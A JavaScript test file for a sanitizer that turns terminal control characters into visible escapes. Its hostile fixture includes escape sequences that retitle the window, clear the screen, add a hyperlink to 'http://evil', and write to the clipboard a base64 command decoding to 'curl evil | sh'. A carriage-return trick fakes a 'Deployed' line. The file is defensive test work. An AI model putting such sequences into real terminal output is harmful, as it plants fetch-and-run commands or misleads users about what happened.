import assert from 'node:assert/strict'

import {terminalLine, terminalText} from '../../src/lib/terminal-text.js'

describe('terminalText', () => {
  it('writes the escape sequences of a hostile message as visible text', () => {
    const hostile =
      'hi \u001B]0;PWNED\u0007 \u001B[2J \u001B]52;c;Y3VybCBldmlsIHwgc2g=\u0007 \u001B]8;;http://evil\u001B\\link\u001B]8;;\u001B\\'
    const shown = terminalText(hostile)
    assert.equal(
      shown,
      'hi \\x1b]0;PWNED\\x07 \\x1b[2J \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\x1b]8;;http://evil\\x1b\\link\\x1b]8;;\\x1b\\',
    )
    assert.doesNotMatch(shown, /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/)
  })

  it('escapes every C0 control but tab and line feed, DEL and every C1 control', () => {
    for (let code = 0; code <= 0x9f; code++) {
      const char = String.fromCodePoint(code)
      const shown = terminalText(char)
      if (code === 0x09 || code === 0x0a || (code >= 0x20 && code < 0x7f))
        assert.equal(shown, char, `U+${code.toString(16)}`)
      else if (code === 0x0d) assert.equal(shown, String.raw`\r`)
      else if (code <= 0x7f) assert.equal(shown, `\\x${code.toString(16).padStart(2, '0')}`, `U+${code.toString(16)}`)
      else assert.equal(shown, `\\u00${code.toString(16)}`, `U+${code.toString(16)}`)
    }

    assert.equal(terminalText('\u009B2J'), String.raw`\u009b2J`)
    assert.equal(terminalText('a\u0008\u0008b\u007F'), String.raw`a\x08\x08b\x7f`)
  })

  it('treats CR as a control: a lone CR would let text overwrite the start of its line', () => {
    assert.equal(terminalText('harmless\r✔ Deployed'), String.raw`harmless\r✔ Deployed`)
    assert.equal(terminalText('a\r\nb'), 'a\\r\nb')
  })

  it('leaves everything else alone: text, tabs, line feeds, accents, astral characters and their surrogate pairs', () => {
    const text = 'tab\there\nnew line · é ü ñ 中文 \u00A0 \u00A0 😀 👩‍💻 𝔘 \u{10FFFF} \\x1b stays a backslash'
    assert.equal(terminalText(text), text)
    // U+00A0 is the first character after C1; U+1B9B is not ESC (no code unit of a pair is a control).
    assert.equal(terminalText('\u00A0\u1B9B\uD83D\uDE00'), '\u00A0\u1B9B\uD83D\uDE00')
    // A lone surrogate is not a control either (the UTF-8 encoder writes it as U+FFFD).
    assert.equal(terminalText('\uD83D'), '\uD83D')
  })

  it('returns the same string when there is nothing to escape', () => {
    const text = 'x'.repeat(10_000)
    assert.equal(terminalText(text), text)
    assert.equal(terminalText(''), '')
  })
})

describe('terminalLine', () => {
  it('also keeps the text on one line', () => {
    assert.equal(terminalLine('a\nb\tc\u001B[2Jd'), String.raw`a\nb\tc\x1b[2Jd`)
  })
})
